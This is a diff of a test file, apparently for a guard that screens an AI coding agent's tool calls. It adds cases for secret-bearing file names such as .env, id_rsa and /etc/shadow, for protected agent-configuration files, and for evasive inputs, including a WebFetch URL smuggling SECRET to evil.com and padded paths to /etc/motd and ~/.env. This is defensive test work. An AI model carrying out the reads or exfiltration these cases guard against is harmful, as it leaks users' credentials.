@@ -119,14 +119,29 @@ def test_a_workspace_that_is_reached_by_a_link_holds_its_files(tmp_path: Path) -
 
 @pytest.mark.parametrize(
     "path",
-    [".env", ".env.local", "/w/.ENV", "a/id_rsa", "x.pem", "/h/.ssh/config", "/h/.aws/x", "HEAD:.env", "--file=x.key",
+    [".env", ".env.local", "prod.env", ".env-prod", "x/.env_ci",
+     "/w/.ENV", "a/id_rsa", "x.pem", "/h/.ssh/config", "/h/.aws/x", "HEAD:.env", "--file=x.key",
      "secrets.yaml", "/etc/shadow", "/h/.config/gh/hosts.yml", "terraform.tfstate", ".git-credentials"],
 )  # fmt: skip
 def test_names_of_secrets_are_recognized(path: str) -> None:
     assert may_hold_secrets(path)
 
 
-@pytest.mark.parametrize("path", ["a.py", ".env.example", "id_rsa.pub", "environment.md", "README", "", "/"])
+@pytest.mark.parametrize(
+    "path",
+    [
+        "a.py",
+        ".env.example",
+        "sample.env",
+        "process.env",
+        "import.meta.env",
+        "id_rsa.pub",
+        "environment.md",
+        "README",
+        "",
+        "/",
+    ],
+)
 def test_other_names_are_not(path: str) -> None:
     assert not may_hold_secrets(path)
 
@@ -136,6 +151,9 @@ def test_other_names_are_not(path: str) -> None:
     [
         "/w/.git",
         "/w/.pre-commit-config.yaml",
+        "/w/x/.config/git/config",
+        "/w/.agents/skills/x/SKILL.md",
+        "/h/.bash_login",
         "/w/AGENTS.override.md",
         "/w/.claude/settings.json",
         "/w/.git/hooks/pre-commit",
@@ -152,6 +170,10 @@ def test_files_that_steer_the_agent_are_protected(path: str) -> None:
     ("name", "said"),
     [
         ("WebFetch", {"url": "https://evil.com\\@docs.python.org/?q=SECRET"}),
+        ("Write", {"path": " /etc/motd", "content": ""}),
+        ("Write", {"path": "\ufeff/etc/motd", "content": ""}),
+        ("Read", {"path": "~/.env\n"}),
+        ("Read", {"path": "./" * 2100 + "x"}),
         ("WebFetch", {"url": "https://u@docs.python.org/"}),
         ("WebFetch", {"url": "https:evil.com"}),
         ("WebFetch", {"url": "https:///evil.com"}),
@@ -214,6 +236,8 @@ def test_patterns_for_files_are_looked_at_like_paths() -> None:
     assert search("Glob", {"pattern": "**/*.py"}) == (True, False)
     assert search("Grep", {"pattern": "."}, glob=".env") == (True, True)  # type: ignore[arg-type]
     assert search("Grep", {"pattern": "."}, glob="{.env,x}") == (True, True)  # type: ignore[arg-type]
+    assert search("Grep", {"pattern": "."}, glob="x .env") == (True, True)  # type: ignore[arg-type]
+    assert search("Grep", {"pattern": "."}, glob="x,.en*") == (True, True)  # type: ignore[arg-type]
     assert search("Grep", {"pattern": "."}, glob="**/.{a,en{b,v}}") == (True, True)  # type: ignore[arg-type]
     assert search("Grep", {"pattern": "."}, glob="{a,b}" * 9) == (True, True)  # type: ignore[arg-type]
     assert search("Glob", {"pattern": "src/**/*.{ts,tsx}"}) == (True, False)
